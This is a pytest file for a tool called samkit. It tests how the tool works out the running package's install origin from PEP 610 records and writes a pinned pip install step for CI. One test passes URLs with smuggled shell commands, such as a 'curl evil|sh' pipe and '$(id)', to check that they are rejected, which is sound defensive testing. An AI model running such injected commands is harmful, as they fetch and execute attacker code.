"""Where the running samkit came from (PEP 610), and what the scaffold installs from it: never a guessed name."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from samkit.scaffold.install import install_hint, install_step, safe_requirement
from samkit.scaffold.provenance import Origin, origin_from, running_origin

COMMIT = "3f2c1b0a9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b"


def step(origin: Origin) -> dict[str, str]:
    [parsed] = yaml.safe_load(install_step(origin))
    assert isinstance(parsed, dict)
    return parsed


def test_a_vcs_install_is_installed_again_at_its_commit() -> None:
    origin = origin_from(
        {"url": "https://github.com/acme/samkit.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, "0.1.0"
    )
    assert origin.kind == "vcs"
    assert origin.requirement == f"samkit @ git+https://github.com/acme/samkit.git@{COMMIT}"
    assert step(origin)["run"] == f"pip install 'samkit @ git+https://github.com/acme/samkit.git@{COMMIT}'"
    assert origin.docs_url == f"https://github.com/acme/samkit/blob/{COMMIT}/docs"
    assert install_hint(origin) == f'pip install "samkit @ git+https://github.com/acme/samkit.git@{COMMIT}"'


def test_an_index_install_pins_its_version() -> None:
    origin = origin_from(None, "0.4.2")
    assert origin.kind == "index"
    assert step(origin)["run"] == "pip install 'samkit==0.4.2'"


def test_an_https_archive_is_pinned_by_its_hash() -> None:
    origin = origin_from(
        {
            "url": "https://files.example.com/samkit-0.1.0-py3-none-any.whl",
            "archive_info": {"hashes": {"sha256": "ab" * 32}},
        },
        "0.1.0",
    )
    assert origin.requirement == f"samkit @ https://files.example.com/samkit-0.1.0-py3-none-any.whl#sha256={'ab' * 32}"


@pytest.mark.parametrize(
    "record",
    [
        {"url": "file:///home/me/samkit", "dir_info": {"editable": True}},  # a checkout, editable
        {"url": "file:///home/me/samkit", "dir_info": {}},
        {"url": "file:///tmp/samkit-0.1.0-py3-none-any.whl", "archive_info": {}},  # a local wheel
        {"url": "file:///home/me/samkit", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},  # a local clone
        {"url": "https://github.com/acme/samkit.git", "vcs_info": {"vcs": "hg", "commit_id": "1"}},
        {"vcs_info": {}},
    ],
)
def test_a_local_origin_gets_a_failing_placeholder_never_a_guess(record: dict[str, object]) -> None:
    origin = origin_from(record, "0.1.0")
    assert origin.requirement is None or origin.kind != "vcs"
    placeholder = step(origin)
    assert placeholder["name"] == "Install samkit"
    assert "pip install" not in placeholder["run"]
    assert placeholder["run"].rstrip().endswith("exit 1") and "::error" in placeholder["run"]


def test_a_url_that_would_be_shell_or_yaml_is_never_written() -> None:
    for url in ("https://github.com/acme/samkit.git'; curl evil|sh; '", "https://x/y z", "https://x/$(id)"):
        origin = Origin("vcs", "0.1.0", url=url, commit=COMMIT)
        assert safe_requirement(origin) is None
        assert "pip install" not in step(origin)["run"]


def test_the_running_samkit_of_this_checkout_is_a_local_one() -> None:
    # the test environment installs this checkout (editable): CI could not reach it
    assert running_origin().kind == "unknown"


def test_a_forge_whose_pages_are_not_known_gets_no_docs_link_but_its_commit() -> None:
    origin = origin_from(
        {"url": "https://git.example.com/acme/samkit.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, "0.1.0"
    )
    assert origin.requirement == f"samkit @ git+https://git.example.com/acme/samkit.git@{COMMIT}"
    assert origin.docs_url is None


@pytest.mark.parametrize(
    ("archive_info", "suffix"),
    [
        ({"hash": "sha256=" + "cd" * 32}, "#sha256=" + "cd" * 32),  # the record's older single `hash` key
        ({}, ""),  # no hash recorded: the URL alone
    ],
)
def test_an_archive_keeps_whatever_hash_its_installer_recorded(archive_info: dict[str, str], suffix: str) -> None:
    url = "https://files.example.com/samkit-0.1.0-py3-none-any.whl"
    origin = origin_from({"url": url, "archive_info": archive_info}, "0.1.0")
    assert origin.kind == "archive"
    assert origin.requirement == f"samkit @ {url}{suffix}"


def installed(site: Path, direct_url: str | None) -> None:
    """A samkit distribution's metadata as an installer leaves it, ``direct_url.json`` only when given."""
    info = site / "samkit-9.9.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: samkit\nVersion: 9.9.0\n", encoding="utf-8")
    if direct_url is not None:
        (info / "direct_url.json").write_text(direct_url, encoding="utf-8")


def test_a_distribution_without_a_direct_url_record_came_from_an_index(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    installed(tmp_path, None)
    monkeypatch.syspath_prepend(str(tmp_path))
    assert running_origin() == Origin("index", "9.9.0")


@pytest.mark.parametrize("record", ["{not json", '["a list"]'])
def test_a_direct_url_record_that_is_not_an_object_is_an_unknown_origin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, record: str
) -> None:
    installed(tmp_path, record)
    monkeypatch.syspath_prepend(str(tmp_path))
    origin = running_origin()
    assert (origin.kind, origin.version, origin.requirement) == ("unknown", "9.9.0", None)
